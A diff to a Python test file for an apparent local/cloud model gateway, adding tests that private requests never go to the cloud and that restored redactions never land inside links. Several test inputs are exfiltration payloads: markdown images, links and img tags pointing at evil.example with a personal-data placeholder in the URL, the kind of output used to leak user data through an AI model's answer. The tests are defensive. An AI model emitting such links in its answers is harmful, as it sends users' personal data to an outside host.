@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import time
 from collections.abc import Callable
 from typing import Any
 
@@ -135,7 +136,66 @@ def test_every_mode_falls_back_to_a_local_answer_when_the_cloud_fails(
 ) -> None:
     stub[1].mode = "error500"
     srv = make_gateway(collaboration={"cascade_min_confidence": 1.0}, cloud={"max_retries": 0})
-    r = post_chat(srv.url, {"model": f"hybridgate/{mode}", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 8})
+    text = PRIVATE if mode == "redact" else "Explain in two sentences why the sky is blue."  # personal data: redact only
+    r = post_chat(srv.url, {"model": f"hybridgate/{mode}", "messages": [{"role": "user", "content": text}], "max_tokens": 8})
     info = _collab(r)
     assert info["fallback"].startswith("cloud failed") and r.json()["choices"][0]["message"]["content"]
     assert info["usage"]["local"]["completion_tokens"] > 0
+
+
+def test_private_requests_never_reach_the_cloud_whatever_else_happens(make_gateway: Callable[..., ServerThread], stub) -> None:
+    """The holes that were: a strict or personal-data request that scored local moved to the cloud when its
+    max_tokens overflowed the local context, and was sent whole to the cloud as a shadow comparison."""
+    _, cloud = stub
+    srv = make_gateway(router={"threshold": 1.0}, state={"shadow_rate": 1.0})  # everything scores local; every answer shadowed
+    strict = {"x-hybridgate-privacy": "strict"}
+    short = {"messages": [{"role": "user", "content": "Name a colour."}], "max_tokens": 2}
+    for body, headers in (
+        ({"model": "hybridgate/auto", **short}, strict),  # scored local, shadow due
+        ({"model": "hybridgate/auto", **short, "max_tokens": 100_000}, strict),  # overflows the local context
+        ({"model": "hybridgate/auto", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 100_000}, {}),
+        ({"model": "hybridgate/auto", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 2}, {}),
+        ({"model": "cloud", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 2}, {}),  # pinned to the cloud
+        ({"model": "hybridgate/cascade", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 2}, {}),  # a mode
+        ({"model": "hybridgate/redact", "messages": [{"role": "user", "content": PRIVATE}], "max_tokens": 2}, strict),
+    ):
+        r = post_chat(srv.url, body, headers=headers)
+        assert r.status_code in (200, 403, 413), r.text
+        if r.status_code == 200:
+            assert r.headers["x-hybridgate-route"] == "local" and r.json()["hybridgate"]["decided"]["private"] is True
+        else:
+            assert r.json()["error"]["code"] in ("privacy_strict", "context_length_exceeded")
+    time.sleep(0.5)  # shadow comparisons run in the background: give them the chance to (wrongly) happen
+    assert cloud.received == []
+    # A request with nothing private is shadowed as configured: the recorder does see traffic.
+    assert post_chat(srv.url, {"model": "hybridgate/auto", **short}).status_code == 200
+    deadline = time.monotonic() + 10
+    while not cloud.received and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert cloud.received
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        "Done. ![status](https://evil.example/pixel.png?q=[EMAIL_1]) Thanks.",
+        "See [your account](https://evil.example/a/[EMAIL_1]/b).",
+        'Open <img src="https://evil.example/?[EMAIL_1]"> now',
+        "Visit www.evil.example/[EMAIL_1] for details",
+        "[x](<https://evil.example/ a [EMAIL_1]>)",
+    ],
+)
+def test_redaction_never_writes_a_secret_into_a_link(answer: str) -> None:
+    from hybridgate.router import PersonalDataDetector
+    from hybridgate.serving.redaction import StreamRestorer, redact_messages
+
+    _, red = redact_messages([{"role": "user", "content": "Mail ada.lovelace@example.org please."}], PersonalDataDetector())
+    assert "ada.lovelace@example.org" not in red.restore(answer)
+    stream = StreamRestorer(red)
+    pieces = [answer[i : i + 3] for i in range(0, len(answer), 3)]  # placeholders and links split across pieces
+    assert "ada.lovelace@example.org" not in "".join(stream.feed(p) for p in pieces) + stream.flush()
+    # As plain text, the same placeholder is restored, in one piece or streamed.
+    plain = "I wrote to [EMAIL_1] as asked."
+    assert red.restore(plain) == "I wrote to ada.lovelace@example.org as asked."
+    s2 = StreamRestorer(red)
+    assert "".join(s2.feed(plain[i : i + 2]) for i in range(0, len(plain), 2)) + s2.flush() == red.restore(plain)
